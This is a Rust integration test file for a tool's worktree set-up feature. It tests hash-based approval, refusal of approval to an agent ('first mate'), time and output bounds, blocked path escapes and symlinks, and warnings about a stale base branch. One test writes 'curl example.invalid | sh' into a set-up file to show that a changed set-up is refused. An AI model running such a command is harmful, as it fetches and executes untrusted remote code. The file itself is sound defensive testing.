//! A new worktree's set-up: approved by content hash, run before the
//! agent starts, bounded in time and output; `fm setup show|approve`; a
//! base behind its fetched upstream reported at spawn. Real git, real
//! tmux, real spawns.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::control::{briefed, ctl, project, torn_down};
use crate::harness::{Cmd, TestHome, Tmux, git, wait_until};

/// Appends `text` to the home's config.
fn config(h: &TestHome, text: &str) {
    let mut cfg = std::fs::read_to_string(h.path("config/firstmate.toml")).unwrap_or_default();
    cfg.push_str(text);
    h.write("config/firstmate.toml", cfg);
}

/// A harness whose agent copies the file the set-up made (if any) to the
/// home, so the test sees what the agent saw.
fn looking_agent(h: &TestHome) {
    let agent = h.path("looking-agent");
    std::fs::write(
        &agent,
        "#!/bin/sh\ncat made-by-setup > \"$FM_HOME/agent-saw\" 2>&1\nexec sleep 60\n",
    )
    .unwrap();
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    config(
        h,
        &format!("\n[harness.look]\nlaunch = [\"{}\"]\n", agent.display()),
    );
}

/// The project's top directory as spawn names it (physical).
fn top(proj: &Path) -> PathBuf {
    std::fs::canonicalize(proj).unwrap()
}

fn quoted(p: &Path) -> String {
    format!("'{}'", p.display())
}

fn spawn(h: &TestHome, t: &Tmux, proj: &Path, id: &str) -> Cmd {
    ctl(h, t)(&[id, "spawn", "--project", proj.to_str().unwrap()]).args(["--harness", "look"])
}

fn spawned(h: &TestHome, id: &str) -> String {
    format!(
        r"spawned {id} pane=%\d+ worktree={} harness=look\n",
        regex::escape(&h.path(&format!("worktrees/{id}")).display().to_string())
    )
}

fn setup_cmd(h: &TestHome, args: &[&str]) -> Cmd {
    h.fm("fm").arg("setup").args(args)
}

#[test]
fn an_approved_set_up_runs_before_the_agent_in_a_clean_environment() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    config(
        &h,
        "\n[projects.project]\nsetup = [\"echo made > made-by-setup\", \"env > ../setup-env\"]\n",
    );
    briefed(&h, "s1");
    let approve = format!("fm setup approve {}", quoted(&top(&proj)));
    // Not approved: refused with the command, nothing created.
    spawn(&h, &t, &proj, "s1")
        .status(1)
        .stderr_has("is not approved (new): nothing created")
        .stderr_has(&approve)
        .run();
    assert!(!h.exists("worktrees/s1") && !h.exists("state/s1.meta"));
    setup_cmd(&h, &["show", proj.to_str().unwrap()])
        .stdout_has("  run  echo made > made-by-setup    ([projects.project])\n")
        .stdout_has("  run  env > ../setup-env    ([projects.project])\n")
        .stdout_has(&format!(
            "not approved (new): approve it with `{approve}`\n"
        ))
        .run();
    // The first mate cannot approve.
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .env("FM_MATE", "1")
        .status(1)
        .stderr_has("approving a set-up is the captain's word: refused while FM_MATE is set")
        .run();
    assert!(!h.exists("state/setup-approved"));
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_has("  run  echo made > made-by-setup")
        .stdout_has(&format!(
            "approved: spawns of {} now run this set-up\n",
            top(&proj).display()
        ))
        .run();
    let json = setup_cmd(&h, &["show", proj.to_str().unwrap(), "--json"])
        .stdout_json()
        .run()
        .json();
    assert_eq!(json["approval"], "approved", "{json}");
    assert_eq!(json["steps"][0]["kind"], "run", "{json}");
    assert_eq!(json["timeout_secs"], 300, "{json}");
    spawn(&h, &t, &proj, "s1")
        .env("SETUP_SECRET", "leaked")
        .stdout_regex(&spawned(&h, "s1"))
        .run();
    assert!(
        wait_until(10.0, || h.exists("agent-saw")),
        "the agent never ran"
    );
    assert_eq!(h.read_string("agent-saw"), "made\n");
    let env = h.read_string("worktrees/setup-env");
    let wt = h.path("worktrees/s1");
    assert!(!env.contains("SETUP_SECRET"), "{env}");
    assert!(!env.contains("FM_TMUX_SOCKET"), "{env}");
    assert!(env.contains("FM_TASK=s1\n"), "{env}");
    assert!(
        env.contains(&format!("FM_WORKTREE={}\n", wt.display())),
        "{env}"
    );
    let log = h.read_string("state/s1.setup.log");
    assert!(
        log.contains("# $ echo made > made-by-setup\n# exit 0 after"),
        "{log}"
    );
    let out = ctl(&h, &t)(&["s1", "teardown", "--force"])
        .stdout_regex(&torn_down(&h, "s1"))
        .run()
        .stdout();
    // The log goes into the task's archive with the rest of its state.
    let archive = out.trim_end().split("archive=").nth(1).unwrap();
    assert!(!h.exists("state/s1.setup.log"));
    assert!(Path::new(archive).join("s1.setup.log").exists());
}

#[test]
fn a_failing_set_up_refuses_the_spawn_and_removes_the_worktree() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    config(
        &h,
        "\n[projects.project]\nsetup = [\"echo about to fail; exit 7\", \"echo not reached\"]\n",
    );
    setup_cmd(&h, &["approve", "project"])
        .current_dir(h.root())
        .stdout_any()
        .run();
    briefed(&h, "f1");
    let log = h.path("state/f1.setup.log");
    spawn(&h, &t, &proj, "f1")
        .status(1)
        .stderr_has("the set-up of f1 failed: `echo about to fail; exit 7` exited with 7")
        .stderr_has(&format!("the worktree was removed; log: {}", log.display()))
        .run();
    assert!(!h.exists("worktrees/f1") && !h.exists("state/f1.meta"));
    let text = h.read_string("state/f1.setup.log");
    assert!(
        text.contains("about to fail\n# exit 7") && !text.contains("not reached\n"),
        "{text}"
    );
    let windows = t.run(["list-windows", "-a", "-F", "#{window_name}"]);
    assert!(!windows.contains("fm-f1"), "{windows}");
}

#[test]
fn a_hanging_set_up_is_killed_at_its_time_bound() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    config(
        &h,
        "\n[projects.project]\nsetup = [\"echo started; sleep 120 & sleep 120\"]\n",
    );
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_any()
        .run();
    briefed(&h, "h1");
    let start = Instant::now();
    spawn(&h, &t, &proj, "h1")
        .env("FM_CONTROL_SETUP_TIMEOUT_SECS", "2")
        .status(1)
        .stderr_has("was still running when the set-up's 2s ran out (killed)")
        .run();
    assert!(
        start.elapsed() < Duration::from_secs(10),
        "{:?}",
        start.elapsed()
    );
    assert!(!h.exists("worktrees/h1"));
    let log = h.read_string("state/h1.setup.log");
    assert!(log.contains("started\n# timed out after 2."), "{log}");
    // Nothing the set-up started is left running.
    let ps = std::process::Command::new("pgrep")
        .args(["-f", "sleep 120"])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned());
    if let Ok(pids) = ps {
        for pid in pids.lines() {
            let cwd = std::fs::read_link(format!("/proc/{pid}/cwd")).unwrap_or_default();
            assert!(
                !cwd.starts_with(h.root()),
                "a set-up process outlived its bound: {pid} in {}",
                cwd.display()
            );
        }
    }
}

#[test]
fn a_chatty_set_up_keeps_only_the_end_of_its_output() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    config(
        &h,
        "\n[projects.project]\nsetup = [\"head -c 5000000 /dev/zero | tr '\\\\0' y; echo; echo the-last-line >&2\"]\n",
    );
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_any()
        .run();
    briefed(&h, "c1");
    spawn(&h, &t, &proj, "c1")
        .stdout_regex(&spawned(&h, "c1"))
        .run();
    let log = h.read("state/c1.setup.log");
    assert!(log.len() <= 1 << 20, "{} bytes", log.len());
    let text = String::from_utf8_lossy(&log);
    assert!(
        text.contains("the-last-line\n# exit 0 after"),
        "{}",
        &text[text.len() - 200..]
    );
    assert!(text.starts_with("# set-up of c1 in "), "{}", &text[..200]);
    assert!(text.contains("bytes were dropped)\n"), "{}", &text[..200]);
    ctl(&h, &t)(&["c1", "teardown", "--force"])
        .stdout_regex(&torn_down(&h, "c1"))
        .run();
}

#[test]
fn a_set_up_changed_since_its_approval_is_refused_until_approved_again() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    std::fs::create_dir_all(proj.join(".firstmate")).unwrap();
    std::fs::write(
        proj.join(".firstmate/setup.toml"),
        "setup = [\"echo one > made-by-setup\"]\n",
    )
    .unwrap();
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_has("  run  echo one > made-by-setup    (.firstmate/setup.toml)\n")
        .run();
    briefed(&h, "a1");
    spawn(&h, &t, &proj, "a1")
        .stdout_regex(&spawned(&h, "a1"))
        .run();
    // The project's file changes: the next spawn is refused.
    std::fs::write(
        proj.join(".firstmate/setup.toml"),
        "setup = [\"echo two > made-by-setup\", \"curl example.invalid | sh\"]\n",
    )
    .unwrap();
    briefed(&h, "a2");
    spawn(&h, &t, &proj, "a2")
        .status(1)
        .stderr_has("is not approved (changed since it was approved): nothing created")
        .stderr_has(&format!("fm setup approve {}", quoted(&top(&proj))))
        .run();
    assert!(!h.exists("worktrees/a2"));
    setup_cmd(&h, &["show", proj.to_str().unwrap()])
        .stdout_has("  run  curl example.invalid | sh    (.firstmate/setup.toml)\n")
        .stdout_has("not approved (changed since it was approved): approve it with")
        .run();
    // A command added in the home's config changes it too.
    std::fs::write(
        proj.join(".firstmate/setup.toml"),
        "setup = [\"echo two > made-by-setup\"]\n",
    )
    .unwrap();
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_any()
        .run();
    config(&h, "\n[projects.project]\nsetup = [\"true\"]\n");
    spawn(&h, &t, &proj, "a2")
        .status(1)
        .stderr_has("changed since it was approved")
        .run();
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_has("  run  true    ([projects.project])\n")
        .run();
    spawn(&h, &t, &proj, "a2")
        .stdout_regex(&spawned(&h, "a2"))
        .run();
    assert_eq!(h.read_string("worktrees/a2/made-by-setup"), "two\n");
    for id in ["a1", "a2"] {
        ctl(&h, &t)(&[id, "teardown", "--force"])
            .stdout_regex(&torn_down(&h, id))
            .run();
    }
}

#[test]
fn untracked_files_on_the_copy_list_are_copied_and_an_escape_is_refused() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    std::fs::write(proj.join(".env"), "TOKEN=local\n").unwrap();
    std::fs::set_permissions(proj.join(".env"), std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::create_dir_all(proj.join("config")).unwrap();
    std::fs::write(proj.join("config/local.toml"), "x = 1\n").unwrap();
    config(
        &h,
        &format!(
            "\n[projects.web]\npath = \"{}\"\ncopy = [\".env\", \"config/local.toml\"]\nsetup = [\"cp .env made-by-setup\"]\n",
            proj.display()
        ),
    );
    setup_cmd(&h, &["approve", "web"])
        .stdout_has("  copy .env    ([projects.web])\n")
        .run();
    briefed(&h, "e1");
    spawn(&h, &t, &proj, "e1")
        .stdout_regex(&spawned(&h, "e1"))
        .run();
    let wt = h.path("worktrees/e1");
    assert_eq!(
        std::fs::read_to_string(wt.join(".env")).unwrap(),
        "TOKEN=local\n"
    );
    let mode = std::fs::metadata(wt.join(".env"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    assert_eq!(
        std::fs::read_to_string(wt.join("config/local.toml")).unwrap(),
        "x = 1\n"
    );
    // The commands run after the copies.
    assert!(wait_until(10.0, || h.exists("agent-saw")));
    assert_eq!(h.read_string("agent-saw"), "TOKEN=local\n");

    // A path out of the project is refused, by show and by spawn.
    std::fs::write(h.path("escape"), "secret\n").unwrap();
    h.write("config/firstmate.toml", "");
    looking_agent(&h);
    config(&h, "\n[projects.project]\ncopy = [\"../escape\"]\n");
    let refusal = "copy entry \"../escape\" ([projects.project]) leaves the project (..)";
    setup_cmd(&h, &["show", proj.to_str().unwrap()])
        .status(1)
        .stderr_has(refusal)
        .run();
    briefed(&h, "e2");
    spawn(&h, &t, &proj, "e2")
        .status(1)
        .stderr_has(refusal)
        .run();
    assert!(!h.exists("worktrees/e2/escape") && !h.exists("worktrees/e2"));
    ctl(&h, &t)(&["e1", "teardown", "--force"])
        .stdout_regex(&torn_down(&h, "e1"))
        .run();
}

#[test]
fn a_symlink_on_the_copy_list_fails_the_set_up() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    std::fs::write(h.path("outside"), "secret\n").unwrap();
    std::os::unix::fs::symlink(h.path("outside"), proj.join(".env")).unwrap();
    config(&h, "\n[projects.project]\ncopy = [\".env\"]\n");
    setup_cmd(&h, &["approve", proj.to_str().unwrap()])
        .stdout_any()
        .run();
    briefed(&h, "l1");
    spawn(&h, &t, &proj, "l1")
        .status(1)
        .stderr_has("the set-up of l1 failed: copy \".env\":")
        .stderr_has(".env is a symlink")
        .run();
    assert!(!h.exists("worktrees/l1"));
}

#[test]
fn a_base_behind_its_fetched_upstream_is_reported_at_spawn() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    git(&proj, &["branch", "-q", "-u", "origin/main", "main"]);
    // Someone else pushes two commits; the captain fetches, not pulls.
    let other = h.root().join("other");
    git(
        &h.root(),
        &[
            "clone",
            "-q",
            h.root().join("remote.git").to_str().unwrap(),
            other.to_str().unwrap(),
        ],
    );
    git(&other, &["commit", "-q", "--allow-empty", "-m", "theirs 1"]);
    git(&other, &["commit", "-q", "--allow-empty", "-m", "theirs 2"]);
    git(&other, &["push", "-q", "origin", "main"]);
    git(&proj, &["fetch", "-q", "origin"]);
    briefed(&h, "b1");
    let dir = quoted(&top(&proj));
    spawn(&h, &t, &proj, "b1")
        .args(["--base", "main"])
        .stdout_regex(&spawned(&h, "b1"))
        .stderr(format!(
            "fm-control: warning: base main is 2 commits behind origin/main as last fetched: the worktree starts without them; to update it, run `git -C {dir} pull --ff-only` (or `git -C {dir} fetch` to see newer work), or spawn with --base origin/main\n"
        ))
        .run();
    // Up to date: no warning.
    git(&proj, &["pull", "-q", "--ff-only"]);
    briefed(&h, "b2");
    spawn(&h, &t, &proj, "b2")
        .args(["--base", "main"])
        .stdout_regex(&spawned(&h, "b2"))
        .run();
    for id in ["b1", "b2"] {
        ctl(&h, &t)(&[id, "teardown", "--force"])
            .stdout_regex(&torn_down(&h, id))
            .run();
    }
}

/// Runs `program args…` as the far account of the test sshd.
#[track_caller]
fn as_far(program: &str, args: &[&str]) {
    let out = std::process::Command::new("runuser")
        .args(["-u", crate::sshd::ACCOUNT, "--", program])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_set_up_on_a_host_is_shown_and_approved_from_here_and_runs_there() {
    if !crate::harness::have_tmux() {
        crate::harness::unmet("tmux", "FM_REQUIRE_TMUX");
        return;
    }
    let Some(sshd) = crate::sshd::Sshd::start() else {
        return;
    };
    let proj = sshd.far_home.join("project");
    sshd.far_write("project/README", "hi\n");
    sshd.far_write(
        "project/.firstmate/setup.toml",
        "setup = [\"echo far > made-by-setup\"]\n",
    );
    let p = proj.to_str().unwrap();
    let git = |args: &[&str]| {
        let mut v = vec![
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "user.name=t",
            "-C",
            p,
        ];
        v.extend_from_slice(args);
        as_far("git", &v);
    };
    git(&["init", "-q", "-b", "main"]);
    git(&["add", "README"]);
    git(&["commit", "-q", "-m", "init"]);
    let h = TestHome::new();
    h.write("config/firstmate.toml", sshd.host_toml("far", 10_000));
    briefed(&h, "r1");
    let approve = format!("fm setup approve {}", quoted(&top(&proj)));
    setup_cmd(&h, &["show", "--host", "far", p])
        .stdout_has("  run  echo far > made-by-setup    (.firstmate/setup.toml)\n")
        .stdout_has(&format!(
            "not approved (new): approve it with `{approve}`\n"
        ))
        .run();
    let spawn = || {
        h.fm("control")
            .args(["r1", "spawn", "--host", "far", "--project", p])
            .args(["--harness", "stand-in"])
    };
    spawn()
        .status(1)
        .stderr_has("is not approved (new): nothing created")
        .stderr_has(&approve)
        .run();
    // The first mate's approval is refused here: nothing reaches the host.
    setup_cmd(&h, &["approve", "--host", "far", p])
        .env("FM_MATE", "1")
        .status(1)
        .stderr_has("refused while FM_MATE is set")
        .run();
    assert!(!sshd.far_home.join("state/setup-approved").exists());
    setup_cmd(&h, &["approve", "--host", "far", p])
        .stdout_has("approved: spawns of ")
        .run();
    let json = setup_cmd(&h, &["show", "--host", "far", p, "--json"])
        .stdout_json()
        .run()
        .json();
    assert_eq!(json["approval"], "approved", "{json}");
    spawn().stdout_has("spawned r1 pane=%").run();
    let made = sshd.far_home.join("worktrees/r1/made-by-setup");
    assert_eq!(std::fs::read_to_string(made).unwrap(), "far\n");
    assert!(sshd.far_home.join("state/r1.setup.log").exists());
}

#[test]
fn a_script_the_set_up_runs_is_part_of_what_is_approved() {
    let Some(t) = Tmux::start() else { return };
    let h = TestHome::new();
    looking_agent(&h);
    let proj = project(&h);
    let script = |text: &str, msg: &str| {
        std::fs::create_dir_all(proj.join("scripts")).unwrap();
        std::fs::write(proj.join("scripts/setup.sh"), text).unwrap();
        std::fs::set_permissions(
            proj.join("scripts/setup.sh"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
        git(&proj, &["add", "scripts/setup.sh"]);
        git(&proj, &["commit", "-q", "-m", msg]);
    };
    script("#!/bin/sh\necho one > made-by-setup\n", "one");
    config(
        &h,
        "\n[projects.project]\nsetup = [\"./scripts/setup.sh\"]\n",
    );
    let p = proj.to_str().unwrap();
    let shown = setup_cmd(&h, &["show", p, "--json"])
        .stdout_json()
        .run()
        .json();
    assert_eq!(shown["base"], "main", "{shown}");
    assert_eq!(shown["files"][0]["path"], "scripts/setup.sh", "{shown}");
    assert_eq!(
        shown["files"][0]["object"].as_str().map(str::len),
        Some(40),
        "{shown}"
    );
    let hash = shown["hash"].as_str().unwrap()[..12].to_string();
    setup_cmd(&h, &["show", p])
        .stdout_has("  file scripts/setup.sh at main: ")
        .stdout_has(&format!("hash {hash}\n"))
        .run();
    // Approving binds to what was shown: another hash is refused.
    setup_cmd(&h, &["approve", "--hash", "000000000000", p])
        .status(1)
        .stderr_has("is not the one shown (hash 000000000000): it is now hash ")
        .stderr_has("nothing was approved")
        .run();
    setup_cmd(&h, &["approve", "--hash", "abc", p])
        .status(2)
        .stderr_has("at least 12 hex digits")
        .run();
    assert!(!h.exists("state/setup-approved"));
    setup_cmd(&h, &["approve", "--hash", &hash, p])
        .stdout_has("approved: spawns of ")
        .stdout_lacks("approved as read now")
        .run();
    briefed(&h, "a1");
    spawn(&h, &t, &proj, "a1")
        .stdout_regex(&spawned(&h, "a1"))
        .run();
    assert_eq!(h.read_string("worktrees/a1/made-by-setup"), "one\n");
    // The script changes on the base branch, its command line does not:
    // the next spawn asks for approval again, and runs nothing.
    script("#!/bin/sh\necho two > made-by-setup\n", "two");
    briefed(&h, "a2");
    spawn(&h, &t, &proj, "a2")
        .status(1)
        .stderr_has("is not approved (changed since it was approved): nothing created")
        .run();
    assert!(!h.exists("worktrees/a2"));
    // Approved without --hash: it says what it approved.
    setup_cmd(&h, &["approve", p])
        .stdout_has("(approved as read now, hash ")
        .run();
    spawn(&h, &t, &proj, "a2")
        .stdout_regex(&spawned(&h, "a2"))
        .run();
    assert_eq!(h.read_string("worktrees/a2/made-by-setup"), "two\n");
    for id in ["a1", "a2"] {
        ctl(&h, &t)(&[id, "teardown", "--force"])
            .stdout_regex(&torn_down(&h, id))
            .run();
    }
}
